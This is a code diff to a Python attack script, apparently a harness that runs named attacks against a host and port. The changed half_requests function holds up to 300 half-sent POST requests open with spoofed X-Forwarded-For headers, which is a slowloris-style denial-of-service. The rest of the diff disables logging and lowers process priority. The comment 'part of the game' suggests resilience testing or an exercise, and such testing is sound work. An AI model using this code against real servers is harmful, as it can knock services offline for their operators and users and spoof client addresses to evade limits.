@@ -127,13 +127,12 @@ def new_lines(me: Stranger) -> None:
 def half_requests(me: Stranger) -> None:
     lines: list[socket.socket] = []
     host, port = me.place.split(":")
-    while me.again():
-        if len(lines) >= 300:
-            lines.pop(0).close()
+    while len(lines) < 300 and me.again():
         line = socket.create_connection((host, int(port)), timeout=60)
         lines.append(line)
         forwarded = me.far["X-Forwarded-For"]
         line.sendall(b"POST /api/tables HTTP/1.1\r\nX-Forwarded-For: " + forwarded.encode() + b"\r")
+    threading.Event().wait()
 
 
 def long_thoughts(me: Stranger) -> None:
@@ -164,8 +163,8 @@ ATTACKS: dict[str, tuple[Callable[[Stranger], None], int, int]] = {
 def main() -> None:
     name, place, made = sys.argv[1], sys.argv[2], json.loads(sys.argv[3])
     logging.disable()  # that the server closes a line is part of the game
-    if hasattr(os, "nice"):
-        os.nice(15)
+    if hasattr(os, "setpriority"):
+        os.setpriority(os.PRIO_PROCESS, 0, 15)
     doing, count, addresses = ATTACKS[name]
     going = threading.Event()
     strangers = [
